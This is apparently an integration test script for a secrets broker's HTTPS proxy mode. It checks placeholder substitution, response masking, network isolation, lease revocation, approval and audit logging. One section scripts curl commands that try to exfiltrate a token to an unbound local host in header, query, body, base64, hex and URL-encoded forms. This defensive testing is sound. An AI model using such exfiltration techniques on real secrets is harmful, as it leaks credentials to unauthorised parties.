#!/bin/bash
# airlock run --proxy: the child holds a placeholder; the value goes only to
# the secret's host, in headers, through the broker's proxy.  Two local
# HTTPS servers with certificates from a test CA: 127.0.0.1 (bound) and
# 127.0.0.2 (not bound); clients curl and Python.
. "$(dirname "$0")/lib.sh"

. "$(dirname "$0")/proxylib.sh"

# A server nobody trusts: a self-signed certificate.
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
    -keyout "$D/self.key" -out "$D/self.pem" -days 2 -subj /CN=self \
    -addext subjectAltName=IP:127.0.0.3 2>/dev/null

# A bare git repository the servers publish under /static/repo.git.
mkdir -p "$T_ROOT/www" "$T_ROOT/src"
git -C "$T_ROOT/src" init -q && printf 'hello\n' >"$T_ROOT/src/f" &&
    git -C "$T_ROOT/src" add f &&
    git -C "$T_ROOT/src" -c user.name=t -c user.email=t@t commit -qm one &&
    git clone -q --bare "$T_ROOT/src" "$T_ROOT/www/repo.git" &&
    git -C "$T_ROOT/www/repo.git" update-server-info ||
    fail "test repository"
# Each serves that repository as well (https_echo.py's last argument).
start_server 127.0.0.1 bound "" "" "" "$T_ROOT/www"
start_server 127.0.0.2 unbound "" "" "" "$T_ROOT/www"
start_server 127.0.0.3 selfsigned "" "$D/self.pem" "$D/self.key" "$T_ROOT/www"
PB=$(cat "$T_ROOT/bound.port")
PU=$(cat "$T_ROOT/unbound.port")
B="https://127.0.0.1:$PB"
U="https://127.0.0.2:$PU"

init_vault
V=$(canary)
V2=$(canary)
add_secret tok "$V" --host 127.0.0.1 --label 'airlock.format=cnry-{hex:36}'
add_secret formtok "$V2" --host '127.0.0.*' --inject body
add_secret nohost "$(canary)"
V3=$(canary)
add_secret proxyonly "$V3" --host 127.0.0.1
V4=$(canary)
add_secret isolonly "$V4" --host 127.0.0.1
V5=$(canary)
add_secret approved "$V5" --host 127.0.0.1 --label approval=required
# A rule that lets proxyonly be used through the proxy only.
python3 - "$AIRLOCK_HOME/policy.yaml" "$(id -u)" <<'PY'
import sys
p, uid = sys.argv[1], sys.argv[2]
s = open(p).read()
rule = ('  - id: proxy-only\n    effect: allow\n'
        '    callers: ["unix:uid:%s"]\n    secrets: [proxyonly]\n'
        '    use: proxy\n\n'
        '  - id: isolated-only\n    effect: allow\n'
        '    callers: ["unix:uid:%s"]\n    secrets: [isolonly]\n'
        '    use: proxy-isolated\n\n' % (uid, uid))
s = s.replace("  - id: owner-any-secret", rule + "  - id: owner-any-secret", 1)
open(p, "w").write(s)
PY
run "$AL" policy lint
expect_rc 0 "policy with use: proxy"
S="$T_ROOT/scratch"
mkdir -p "$S"

# --- a secret bound to no host cannot go through the proxy ------------------
run "$AL" run --proxy -e T=nohost -- true
expect_rc 125 "run --proxy with an unbound secret"
expect_err "secret 'nohost' is bound to no host"

# A format that would make a guessable placeholder: refused before any use.
add_secret weakfmt "$(canary)" --host 127.0.0.1 --label 'airlock.format=x{hex:8}'
run "$AL" run --proxy -e T=weakfmt -- true
expect_rc 125 "run --proxy with a weak placeholder format"
expect_err "secret 'weakfmt': its placeholder format (label airlock.format) is not usable: it gives 32 random bits, fewer than 64"
# Without a format: 32 letters and digits, nothing of the value.
mkdir -p "$T_ROOT/scratch"
run "$AL" run --proxy -e T=formtok -- sh -c \
    'printf "%s\n" "$T" >"'"$T_ROOT/scratch/ph-default"'"'
if grep -qxE '[A-Za-z0-9]{32}' "$T_ROOT/scratch/ph-default"; then pass
else fail "default placeholder: $(head -c 100 "$T_ROOT/scratch/ph-default")"; fi

# --- the bound host gets the value; the child and its output never ----------
run "$AL" run --proxy -e TOK=tok -- sh -c '
	env >"'"$S"'/env"; cat /proc/self/environ >"'"$S"'/proc-env"
	printf %s "$HTTPS_PROXY" >"'"$S"'/proxy-url"
	curl -sS -H "Authorization: Bearer $TOK" "'"$B"'/api?x=1"; echo
	curl -sS -u "me:$TOK" "'"$B"'/basic"; echo
	curl -sS -H "Authorization: Basic %%not-base64" -H "X-T-Token: $TOK" \
	    "'"$B"'/badbasic"; echo
	curl -sS "'"$B"'/gzip" -H "X-Echo-Token: $TOK"; echo'
expect_rc 0 "proxied curl"
if grep -qF "\"Authorization\": \"Bearer $V\"" "$T_ROOT/bound.log"; then pass
else fail "bound server did not get the value in Authorization"; fi
BASIC=$(printf 'me:%s' "$V" | base64 -w0)
if grep -qF "Basic $BASIC" "$T_ROOT/bound.log"; then pass
else fail "bound server did not get the value inside Basic auth"; fi
if grep -qF "\"X-T-Token\": \"$V\"" "$T_ROOT/bound.log" &&
    grep -qF '"Authorization": "Basic %%not-base64"' "$T_ROOT/bound.log"; then pass
else fail "a malformed Basic header stopped the value in another header"; fi
if grep -qF '"Accept-Encoding": "identity"' "$T_ROOT/bound.log"; then pass
else fail "upstream was not asked for an identity encoding"; fi
expect_out '"Authorization": "Bearer [REDACTED:tok]"' "echoed value masked"
expect_out '"X-Echo-Token": "[REDACTED:tok]"' "gzip-compressed echo masked"
run "$AL" run --proxy -e TOK=tok -- sh -c '
	curl -s -w "\n%{http_code}\n" -H "X-Key: $TOK" "'"$B"'/hidden-gzip"'
expect_out "upstream sent more than one content encoding" "a second Content-Encoding refused"
expect_out "502" "a second Content-Encoding: 502"
# A gzip body in two members (concatenated .gz files): both inflated and
# masked, each value found.
run "$AL" run --proxy -e TOK=tok -- sh -c '
	curl -sS --max-time 10 -H "X-Echo-Token: $TOK" -H "X-Echo2-Token: $TOK" \
	    "'"$B"'/gzip2"; echo " rc=$?"'
expect_out '"X-Echo-Token": "[REDACTED:tok]", "X-Echo2-Token": "[REDACTED:tok]"' \
    "a two-member gzip body inflated whole and masked"
expect_out "\"body\": \"\"} rc=0" "a two-member gzip body ends"
if grep -qF "$V" "$OUT"; then fail "value in a two-member gzip body"; else pass; fi
for f in env proc-env; do
	if grep -qaF "$V" "$S/$f"; then fail "value in the child's $f"; else pass; fi
	# Shaped by the secret's declared format, cnry-{hex:36}.
	if grep -qaE 'TOK=cnry-[0-9a-f]{36}' "$S/$f"; then pass
	else fail "TOK in the child's $f is not a placeholder of its format"; fi
done
if grep -qaE '^(NO_PROXY|no_proxy)=' "$S/env"; then
	fail "NO_PROXY left in the child"; else pass; fi
for v in SSL_CERT_FILE CURL_CA_BUNDLE REQUESTS_CA_BUNDLE NODE_EXTRA_CA_CERTS \
    GIT_SSL_CAINFO HTTPS_PROXY https_proxy HTTP_PROXY ALL_PROXY; do
	grep -q "^$v=" "$S/env" && pass || fail "$v not set in the child"
done
# The CA bundle is gone with the run.
if ls "$AIRLOCK_HOME"/proxy-ca-*.pem >/dev/null 2>&1; then
	fail "CA bundle left after the run"; else pass; fi

# --- not an honour system: no way out but the proxy -------------------------
run "$AL" run --proxy -e TOK=tok -- sh -c '
	grep -c ":" /proc/self/net/dev
	env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy \
	    -u ALL_PROXY -u all_proxy curl -s -o /dev/null --max-time 5 \
	    --cacert "'"$D/ca.pem"'" -H "X: $TOK" "'"$B"'/direct"
	echo "direct=$?"
	curl -s -o /dev/null -w "%{http_code}\n" "'"$B"'/via-proxy"'
cp "$ERR" "$T_ROOT/iso.err"
if grep -q 'warning: run: --proxy' "$ERR"; then
	echo "note: no network namespaces here; isolation not tested" >&2
else
	expect_eq "$(tr '\n' ' ' <"$OUT")" "1 direct=7 200 " \
	    "the command sees only loopback, a direct connection fails, the proxy works"
fi
run "$AL" doctor
if grep -q '^warn  netns' "$OUT"; then
	if grep -q 'warning: run: --proxy' "$T_ROOT/iso.err"; then pass
	else fail "doctor says no isolation, run isolated"; fi
else
	expect_out "ok    netns" "doctor reports isolation"
fi
# Not root: a user namespace carries the network namespace.  airlock is not
# dumpable, which once kept it from writing its own uid map.  (Not under
# ThreadSanitizer, whose runtime thread makes a new user namespace fail.)
if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null &&
    [ -z "${TSAN_OPTIONS:-}" ] &&
    [ "$(cat /proc/sys/kernel/unprivileged_userns_clone 2>/dev/null || echo 1)" = 1 ] &&
    [ "$(cat /proc/sys/user/max_user_namespaces 2>/dev/null || echo 0)" -gt 0 ]; then
	NB=$(mktemp -d "${TMPDIR:-/tmp}/airlock-px-nobody.XXXXXX")
	cp "$AL" "$NB/airlock" && chown -R 65534:65534 "$NB" && chmod 700 "$NB"
	setpriv --reuid=65534 --regid=65534 --clear-groups env HOME="$NB" \
	    AIRLOCK_HOME="$NB/home" "$NB/airlock" doctor >"$NB.out" 2>&1
	if grep -q '^ok    netns' "$NB.out"; then pass
	else fail "isolation as an unprivileged user: $(grep netns "$NB.out")"; fi
	rm -rf "$NB" "$NB.out"
fi
if grep -qF '"path": "/direct"' "$T_ROOT/bound.log"; then
	fail "a direct connection reached the server"; else pass; fi

# A bundle left by a killed run is swept once it is older than any lease.
printf 'stale\n' >"$AIRLOCK_HOME/proxy-ca-stale.pem"
printf 'fresh\n' >"$AIRLOCK_HOME/proxy-ca-fresh.pem"
touch -d '2 days ago' "$AIRLOCK_HOME/proxy-ca-stale.pem"
run "$AL" run --proxy -e TOK=tok -- true
expect_rc 0 "a proxied run"
[ -e "$AIRLOCK_HOME/proxy-ca-stale.pem" ] && fail "stale bundle kept" || pass
[ -e "$AIRLOCK_HOME/proxy-ca-fresh.pem" ] && pass || fail "a live run's bundle removed"
rm -f "$AIRLOCK_HOME/proxy-ca-fresh.pem"

# The proxy's own port, as the audit log records it (inside a network
# namespace the command's variables name the relay's port instead).
outside() {	# outside URL: the same credential, the broker's port
	_pp=$("$AL" audit --json --event proxy_start | tail -1 |
	    python3 -c 'import json,sys; print(json.load(sys.stdin)["detail"]["port"])')
	printf '%s' "$1" | sed "s/:[0-9]*\$/:$_pp/"
}

# --- a request after the run ends: 407 --------------------------------------
code=$(curl -s -o /dev/null -w '%{http_connect}' --proxy "$(outside "$(cat "$S/proxy-url")")" \
    --cacert "$D/ca.pem" "$B/late")
expect_eq "$code" "407" "late request with the run's credential"

# --- exfiltration to the unbound host, every form: refused -------------------
: >"$T_ROOT/unbound.log"
run "$AL" run --proxy -e TOK=tok -- sh -c '
	u="'"$U"'"
	w() { curl -s -o /dev/null -w "%{http_code}\n" "$@"; }
	w -H "X-Leak: $TOK" "$u/h"
	w "$u/q?t=$TOK"
	w -d "t=$TOK" "$u/b"
	w -u "me:$TOK" "$u/basic"
	w -H "X-Leak: $(printf %s "$TOK" | base64 -w0)" "$u/b64"
	w -H "X-Leak: $(printf %s "$TOK" | od -An -tx1 | tr -d " \n")" "$u/hex"
	w "$u/url?t=$(printf %s "$TOK" | od -An -tx1 | tr -d " \n" |
	    sed "s/../%&/g" | tr a-f A-F)"
	w "$u/clean"
	# the wrong credential, and the Host of another server
	c() { curl -s -o /dev/null -w "%{http_connect}\n" "$@"; }
	c --proxy "http://airlock:0000@127.0.0.1:${HTTPS_PROXY##*:}" "$u/x"
	w -H "Host: 127.0.0.2:'"$PU"'" "'"$B"'/host"'
expect_rc 0 "exfiltration attempts"
expect_eq "$(head -7 "$OUT" | sort -u | tr '\n' ' ')" "403 " \
    "header, query, body, basic, base64, hex, URL-encoded to the unbound host"
expect_eq "$(sed -n 8p "$OUT")" "200" "a request without placeholder passes"
expect_eq "$(sed -n 9p "$OUT")" "407" "wrong proxy credential"
expect_eq "$(sed -n 10p "$OUT")" "421" "Host header not the CONNECT target"
expect_eq "$(grep -c . "$T_ROOT/unbound.log")" "1" "only the clean request reached the unbound host"

# An absolute-form request target names its own host, and a server (a
# shared front end, nginx) routes by it rather than by Host: a request in
# the bound host's tunnel must not name another host that way.
: >"$T_ROOT/bound.log"
run "$AL" run --proxy -e TOK=tok -- sh -c '
	w() { curl -s -o /dev/null -w "%{http_code}\n" "$@"; }
	w -H "Authorization: Bearer $TOK" \
	    --request-target "https://127.0.0.2:'"$PU"'/abs" "'"$B"'/x"
	w -H "Authorization: Bearer $TOK" \
	    --request-target "http://127.0.0.2:'"$PU"'/abs" "'"$B"'/x"
	w -H "Authorization: Bearer $TOK" --request-target "abs" "'"$B"'/x"
	w -X OPTIONS --request-target "*" "'"$B"'/x"
	w -H "Authorization: Bearer $TOK" "'"$B"'/origin-form"'
expect_eq "$(tr '\n' ' ' <"$OUT")" "400 400 400 501 200 " \
    "only origin-form (and OPTIONS *, the server's 501) request targets go upstream"
if grep -qF '"path": "http' "$T_ROOT/bound.log" ||
    grep -qF '"path": "abs' "$T_ROOT/bound.log"; then
	fail "an absolute-form request with the value went upstream"; else pass; fi

# --- body and query to the bound host: only with --inject --------------------
: >"$T_ROOT/bound.log"
run "$AL" run --proxy -e TOK=tok -e F=formtok -- sh -c '
	w() { curl -s -o /dev/null -w "%{http_code}\n" "$@"; }
	w -d "t=$TOK" "'"$B"'/post"
	w "'"$B"'/q?t=$TOK"
	w -d "client_secret=$F" "'"$B"'/token"
	curl -sS -d "t=$TOK" "'"$B"'/post"
	curl -sS -d "client_secret=$F" "'"$B"'/token"; echo'
expect_eq "$(head -3 "$OUT" | tr '\n' ' ')" "403 403 200 " \
    "body/query placeholder: refused unless the secret opted in"
expect_out "secret 'tok' in the body" "403 names the secret"
if grep -qF "client_secret=$V2" "$T_ROOT/bound.log"; then pass
else fail "opted-in body did not get the value"; fi
if grep -qF "$V" "$T_ROOT/bound.log"; then fail "refused body reached the server"
else pass; fi
expect_out "client_secret=[REDACTED:formtok]" "echoed body masked"

# --- Python urllib and requests honour the variables ------------------------
: >"$T_ROOT/bound.log"
run "$AL" run --proxy -e TOK=tok -- python3 -c '
import os, urllib.request
r = urllib.request.Request("'"$B"'/urllib", headers={"X-Api-Key": os.environ["TOK"]})
print(urllib.request.urlopen(r).status)
try:
    import requests
    print(requests.get("'"$B"'/requests", headers={"X-Api-Key": os.environ["TOK"]}).status_code)
except ImportError:
    print(200)
'
expect_rc 0 "python clients"
expect_eq "$(tr '\n' ' ' <"$OUT")" "200 200 " "urllib and requests through the proxy"
expect_eq "$(grep -cF "\"X-Api-Key\": \"$V\"" "$T_ROOT/bound.log")" "2" \
    "python requests carried the value upstream"

# --- bad input and faults: the proxy answers, and keeps serving -------------
PS=$(cat "$T_ROOT/selfsigned.port")
run "$AL" run --proxy -e TOK=tok -- python3 -c '
import base64, os, socket, ssl, urllib.parse
p = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
auth = base64.b64encode(f"{p.username}:{p.password}".encode()).decode()
ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
def tunnel(host, port):
    s = socket.create_connection((p.hostname, p.port))
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n"
              f"Proxy-Authorization: Basic {auth}\r\n\r\n".encode())
    assert s.recv(4096).startswith(b"HTTP/1.1 200")
    return ctx.wrap_socket(s, server_hostname=host)
def status(t, req):
    t.sendall(req)
    data = b""
    while b"\r\n" not in data:
        c = t.recv(65536)
        if not c:
            break
        data += c
    return data.split(b" ")[1].decode() if data else "closed"
b = ("127.0.0.1", int("'"$PB"'"))
print(status(tunnel(*b), b"GARBAGE\r\n\r\n"))
print(status(tunnel(*b), b"GET / HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nX-Big: %s\r\n\r\n" % (b[1], b"a" * 70000)))
t = tunnel(*b)
print(status(t, b"HEAD /one HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % b[1]))
print(status(t, b"GET /two HTTP/1.1\r\nHost: 127.0.0.2:%d\r\n\r\n" % int("'"$PU"'")))
print(status(tunnel("127.0.0.3", int("'"$PS"'")), b"GET / HTTP/1.1\r\nHost: 127.0.0.3:'"$PS"'\r\n\r\n"))
print(status(tunnel(*b), b"GET /after HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % b[1]))
'
expect_rc 0 "raw requests through the tunnel"
expect_eq "$(tr '\n' ' ' <"$OUT")" "400 431 200 421 502 200 " \
    "malformed 400, huge head 431, keep-alive cannot switch host 421, untrusted upstream 502, still serving"
run "$AL" audit --json
expect_out "TLS with 127.0.0.3:$PS failed: self-signed certificate" "the 502's reason is audited"

# --- the run ends any way: its credential is dead ---------------------------
# A lease revoked while the command runs ends its proxy at once (and the
# task: a command that ignores SIGTERM still has its grace to try).
# The revocation comes from outside the task: a process inside it would get
# the task's SIGTERM and SIGCONT while it exits (which can stall a sanitizer's
# exit-time leak check).
rm -f "$S/px-before" "$S/px-revoked"
(
	for _ in $(seq 400); do [ -e "$S/px-before" ] && break; sleep 0.05; done
	"$AL" lease revoke --task px-revoke >/dev/null
	: >"$S/px-revoked"
) &
REVOKER=$!
run "$AL" run --proxy --grace 20s --task px-revoke -e TOK=tok -- sh -c '
	trap "" TERM
	w() { curl -s -o /dev/null -w "%{http_code}%{http_connect}\n" "$@"; }
	w -H "A-Token: $TOK" "'"$B"'/before"
	: >"'"$S"'/px-before"
	for _ in $(seq 400); do [ -e "'"$S"'/px-revoked" ] && break; sleep 0.05; done
	w -H "A-Token: $TOK" "'"$B"'/after"'
wait "$REVOKER"
expect_eq "$(tr '\n' ' ' <"$OUT")" "200200 000407 " "revoked lease: the next request gets 407"
expect_rc 56 "a run whose lease was revoked: the status of its command (curl's, refused by the proxy)"
expect_err "airlock: run: the lease on secret 'tok' ended (task revoked); the task was ended"
# airlock run killed with SIGKILL: the broker sees its connection close.
rm -f "$S/url2"
"$AL" run --proxy -e TOK=tok -- sh -c 'printf %s "$HTTPS_PROXY" >"'"$S"'/url2.tmp"
	mv "'"$S"'/url2.tmp" "'"$S"'/url2"; sleep 30' >/dev/null 2>&1 &
RUNPID=$!
for _ in $(seq 100); do [ -s "$S/url2" ] && break; sleep 0.05; done
URL2=$(outside "$(cat "$S/url2")")
code=$(curl -s -o /dev/null -w '%{http_connect}' --proxy "$URL2" \
    --cacert "$D/ca.pem" "$B/alive")
expect_eq "$code" "200" "a live run's credential works from outside too"
{ kill -9 "$RUNPID"; wait "$RUNPID"; } 2>/dev/null
code=407
for _ in $(seq 50); do
	code=$(curl -s -o /dev/null -w '%{http_connect}' --proxy "$URL2" \
	    --cacert "$D/ca.pem" "$B/dead")
	[ "$code" = 407 ] && break
	sleep 0.1
done
expect_eq "$code" "407" "run killed with SIGKILL: its credential is dead"

# --- policy: use: proxy ----------------------------------------------------
run "$AL" run -e P=proxyonly -- true
expect_rc 125 "raw use of a proxy-only secret"
expect_err "rule 'proxy-only' lets secret 'proxyonly' be used only through the proxy"
: >"$T_ROOT/bound.log"
run "$AL" run --proxy -e P=proxyonly -- sh -c \
    'curl -s -o /dev/null -w "%{http_code}" -H "X-P-Token: $P" "'"$B"'/po"'
expect_eq "$(cat "$OUT")" "200" "proxy-only secret through the proxy"
if grep -qF "\"X-P-Token\": \"$V3\"" "$T_ROOT/bound.log"; then pass
else fail "proxy-only secret did not reach its host"; fi
# use: proxy-isolated: only for a command in its own network namespace.
run "$AL" run -e I=isolonly -- true
expect_rc 125 "raw use of an isolated-only secret"
run "$AL" run --proxy --no-isolation -e I=isolonly -- true
expect_rc 125 "isolated-only secret without isolation"
expect_err "rule 'isolated-only' lets secret 'isolonly' be used only by a command isolated"
run "$AL" run --no-isolation -e I=tok -- true
expect_rc 125 "--no-isolation without --proxy (a usage error of run is 125)"
if ! grep -q 'warning: run: --proxy' "$T_ROOT/iso.err"; then
	: >"$T_ROOT/bound.log"
	run "$AL" run --proxy -e I=isolonly -- sh -c \
	    'curl -s -o /dev/null -w "%{http_code}" -H "X-I-Token: $I" "'"$B"'/iso"'
	expect_eq "$(cat "$OUT")" "200" "isolated-only secret, isolated"
	if grep -qF "\"X-I-Token\": \"$V4\"" "$T_ROOT/bound.log"; then pass
	else fail "isolated-only secret did not reach its host"; fi
fi
# --no-isolation: the command shares the network (and may go direct).
run "$AL" run --proxy --no-isolation -e TOK=tok -- sh -c '
	env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy \
	    curl -s -o /dev/null -w "%{http_code}" --cacert "'"$D/ca.pem"'" \
	    "'"$B"'/shared"'
expect_eq "$(cat "$OUT")" "200" "--no-isolation: a direct connection works"

# A secret that needs a human's approval: the run waits, then proxies.
# The approver types the PIN on a terminal of its own.
set_approver_pin 4711-proxy
: >"$T_ROOT/bound.log"
"$AL" run --proxy --approval-wait 30s -e A=approved -- sh -c \
    'curl -s -o /dev/null -w "%{http_code}" -H "X-A-Token: $A" "'"$B"'/approved"' \
    >"$T_ROOT/ap.out" 2>"$T_ROOT/ap.err" &
APID=$!
AID=""
for _ in $(seq 100); do
	AID=$("$AL" approvals --json 2>/dev/null | python3 -c 'import json,sys
p = [a["id"] for a in json.load(sys.stdin) if a["secret"] == "approved"]
print(p[0] if p else "")')
	[ -n "$AID" ] && break
	sleep 0.1
done
run with_tty 4711-proxy "$AL" approve "$AID"
expect_rc 0 "approve the proxied run's request"
wait "$APID"
expect_eq "$?" "0" "the approved proxied run"
expect_eq "$(cat "$T_ROOT/ap.out")" "200" "approved secret through the proxy"
if grep -qF "\"X-A-Token\": \"$V5\"" "$T_ROOT/bound.log"; then pass
else fail "approved secret did not reach its host: $(cat "$T_ROOT/ap.err")"; fi

# request_access tells the agent which way the secret may be used.
printf '%s\n' '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}' \
    '{"jsonrpc":"2.0","method":"notifications/initialized"}' \
    '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"request_access","arguments":{"secret":"proxyonly"}}}' \
    '{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"request_access","arguments":{"secret":"tok"}}}' \
    >"$T_ROOT/ra.in"
run_in "$T_ROOT/ra.in" timeout 20 "$AL" mcp
if python3 - "$OUT" <<'PY'
import json, sys
r = {m["id"]: m["result"]["structuredContent"] for m in map(json.loads, open(sys.argv[1])) if "id" in m and m["id"] in (2, 3)}
assert r[2]["use"] == "proxy" and '"proxy": true' in r[2]["message"], r[2]
assert r[3]["use"] == "any", r[3]
PY
then pass; else fail "request_access use: $(head -c 800 "$OUT")"; fi
printf 'version: 1\nrules:\n  - id: x\n    effect: allow\n    use: sometimes\n' >"$T_ROOT/p.yaml"
run "$AL" policy lint "$T_ROOT/p.yaml"
expect_rc 1 "policy lint of a bad use"
expect_out "p.yaml:5: use: expected proxy"

# --- a placeholder of one run is nothing in another --------------------------
rm -f "$S/ph1"
"$AL" run --proxy -e TOK=tok -- sh -c 'printf %s "$TOK" >"'"$S"'/ph1.tmp"
	mv "'"$S"'/ph1.tmp" "'"$S"'/ph1"; sleep 10' >/dev/null 2>&1 &
R1=$!
for _ in $(seq 100); do [ -s "$S/ph1" ] && break; sleep 0.05; done
: >"$T_ROOT/bound.log"
run "$AL" run --proxy -e OTHER=tok -- sh -c \
    'curl -s -o /dev/null -H "X-Old: $(cat "'"$S"'/ph1")" "'"$B"'/cross"'
{ kill "$R1"; wait "$R1"; } 2>/dev/null
if grep -qF "\"X-Old\": \"$(cat "$S/ph1")\"" "$T_ROOT/bound.log" &&
    ! grep -qF "$V" "$T_ROOT/bound.log"; then pass
else fail "another run's placeholder was replaced: $(head -c 300 "$T_ROOT/bound.log")"; fi

# --- the MCP run tool with "proxy": true ------------------------------------
: >"$T_ROOT/bound.log"
ARGS=$(python3 -c 'import json,sys; print(json.dumps({"command": sys.argv[1], "env": {"TOK": "tok"}, "proxy": True}))' \
    'curl -s -H "Authorization: Bearer $TOK" '"$B"'/mcp; echo; printf "%s" "$TOK" | wc -c')
printf '%s\n' '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}' \
    '{"jsonrpc":"2.0","method":"notifications/initialized"}' \
    '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"run","arguments":'"$ARGS"'}}' \
    >"$T_ROOT/mcp.in"
run_in "$T_ROOT/mcp.in" timeout 20 "$AL" mcp
if python3 - "$OUT" "${#V}" <<'PY'
import json, sys
r = [json.loads(l) for l in open(sys.argv[1]) if l.strip()][-1]["result"]
out = r["structuredContent"]["stdout"]
assert not r.get("isError"), r
assert '"Authorization": "Bearer [REDACTED:tok]"' in out, out
assert out.split()[-1] == sys.argv[2], out
PY
then pass; else fail "MCP run with proxy: $(head -c 600 "$OUT")"; fi
if grep -qF "\"Authorization\": \"Bearer $V\"" "$T_ROOT/bound.log"; then pass
else fail "MCP proxied run did not reach the bound server with the value"; fi

# --- git clone over HTTPS with the token in a header ------------------------
: >"$T_ROOT/bound.log"
run "$AL" run --proxy -e TOK=tok -- sh -c '
	git -c http.extraHeader="Authorization: Bearer $TOK" clone -q \
	    "'"$B"'/static/repo.git" "'"$S"'/clone" && cat "'"$S"'/clone/f"'
expect_rc 0 "git clone through the proxy"
expect_out "hello" "the cloned file"
if grep -qF "\"Authorization\": \"Bearer $V\"" "$T_ROOT/bound.log"; then pass
else fail "git's requests did not carry the value upstream"; fi
if grep -rqaF "$V" "$S/clone/.git"; then fail "value in the clone's git config"
else pass; fi

# --- the audit log: one line per request, blocked ones named ---------------
run "$AL" audit --json
expect_out '"event":"egress_blocked"' "egress_blocked audited"
expect_out '"event":"proxy_request"' "proxied requests audited"
expect_out '"host":"127.0.0.2"' "destination in the audit line"
expect_out '"path":"/q?t=..."' "query values left out of the audit line"
run "$AL" audit --verify
expect_rc 0 "audit chain intact"
# Exactly one line per request: 3 forwarded, 2 refused, in one run.
count() { "$AL" audit --json | grep -cE '"event":"(proxy_request|egress_blocked)"'; }
before=$(count)
run "$AL" run --proxy -e TOK=tok -- sh -c '
	for p in a b c; do curl -s -o /dev/null -H "A-Token: $TOK" "'"$B"'/$p"; done
	for p in d e; do curl -s -o /dev/null -H "A: $TOK" "'"$U"'/$p"; done'
expect_eq "$(($(count) - before))" "5" "one audit line per proxied request"

"$AL" serve --stop >/dev/null 2>&1 || true
check_no_leak "$V" "$S/env" "$S/proc-env"
check_no_leak "$V2"
check_no_leak "$V3"
check_no_leak "$V4"
check_no_leak "$V5" "$T_ROOT/ap.out" "$T_ROOT/ap.err"
done_testing
